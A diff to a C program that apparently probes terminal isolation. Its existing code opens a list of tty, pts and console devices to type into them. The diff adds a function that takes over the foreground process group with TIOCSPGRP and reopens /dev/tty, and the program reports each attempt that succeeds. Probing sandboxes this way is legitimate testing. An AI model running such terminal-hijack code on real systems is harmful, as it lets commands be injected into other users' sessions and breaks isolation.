@@ -1,6 +1,7 @@
 // Tries to type into the terminals that it can reach, and to take them over. Says DID for what worked.
 #define _GNU_SOURCE
 #include <fcntl.h>
+#include <signal.h>
 #include <stdio.h>
 #include <string.h>
 #include <sys/ioctl.h>
@@ -59,6 +60,20 @@ static void take(int fd, const char* where) {
   type_into(fd, where);
 }
 
+// Whoever is in the session of a terminal may make another group the one that reads from it, and open it by /dev/tty.
+static void share(void) {
+  pid_t child = fork();
+  if (child == 0) {
+    setpgid(0, 0);
+    signal(SIGTTOU, SIG_IGN);
+    pid_t self = getpid();
+    for (int fd = 0; fd < 3; fd++) did("TIOCSPGRP", "a descriptor", ioctl(fd, TIOCSPGRP, &self));
+    did("open", "/dev/tty", open("/dev/tty", O_RDWR | O_NONBLOCK));
+    _exit(0);
+  }
+  waitpid(child, 0, 0);
+}
+
 int main(void) {
   static const char* const names[] = {"/dev/tty",        "/proc/self/fd/0", "/proc/self/fd/1", "/dev/stdin", "/dev/pts/0",
                                       "/dev/pts/1",      "/dev/pts/2",      "/dev/console",    "/dev/tty0",  "/dev/tty1",
@@ -73,6 +88,7 @@ int main(void) {
     if (fd >= 0) type_into(fd, names[i]);
     if (fd >= 0) close(fd);
   }
+  share();
   // As the leader of a new session, which may take a terminal that controls nobody.
   pid_t child = fork();
   if (child == 0) {
